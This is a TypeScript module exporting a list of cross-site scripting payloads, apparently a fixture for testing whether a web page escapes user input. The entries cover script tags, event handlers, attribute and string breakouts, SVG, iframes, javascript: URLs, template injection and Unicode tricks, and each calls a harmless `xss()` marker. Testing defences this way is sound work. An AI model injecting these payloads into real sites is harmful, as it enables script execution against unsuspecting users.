/**
 * Texts that call `xss()`, or break out of their context, in a page that treats text as markup, a
 * template, an address, a style or code. All of them fit into the shortest text that users choose,
 * a user name of 64 characters.
 */
export const xssPayloads: readonly string[] = [
  // Elements that run just by being present.
  '<script>xss()</script>',
  '<SCRIPT SRC=data:,xss()></SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script type=module>xss()</script>',
  '</script><script>xss()</script>',
  '</title></textarea></style><script>xss()</script>',
  '<!--><script>xss()</script>-->',
  '<![CDATA[><script>xss()</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<template><script>xss()</script></template>',
  // Handlers.
  '<img src=x onerror=xss()>',
  '<img src=x onerror="xss()" />',
  '<img/src=x/onerror=xss()>',
  '<IMG """><img src=x onerror=xss()>">',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()>',
  '<body onload=xss()>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>x</details>',
  '<marquee onstart=xss()>x</marquee>',
  '<style onload=xss()></style>',
  '<a href=# onmouseover=xss()>x</a>',
  '<div style="animation:x 1s" onanimationstart=xss()>',
  // Breaking out of an attribute or a string.
  '" autofocus onfocus=xss() x="',
  '\' onmouseover=xss() x=\'',
  '`onmouseover=xss()',
  '";xss();//',
  '\';xss();//',
  '\\";xss();//',
  '</textarea><img src=x onerror=xss()>',
  // Other markup languages.
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=xss()></mtext></math>',
  // Documents and addresses.
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<iframe src="javascript:parent.xss()"></iframe>',
  '<object data="data:text/html,<script>xss()</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href="javascript:xss()//">',
  'javascript:xss()',
  'JaVaScRiPt:xss()//%0Axss()',
  'data:text/html,<script>parent.xss()</script>',
  // Templates.
  '{{constructor.constructor("xss()")()}}',
  '#{xss()}<%= xss() %>',
  '<div v-html="xss()" @vue:mounted="xss()"></div>',
  // Styles.
  '<style>@import "javascript:xss()";*{color:red}</style>',
  // Unicode: full width, hidden or reversed characters, and halves that join.
  '＜script＞xss()＜/script＞',
  '\u202E<img src=x onerror=xss()>\u2066',
  '<im\u200Bg src=x onerror=xss()>\uFEFF<svg\u00A0onload=xss()>',
]
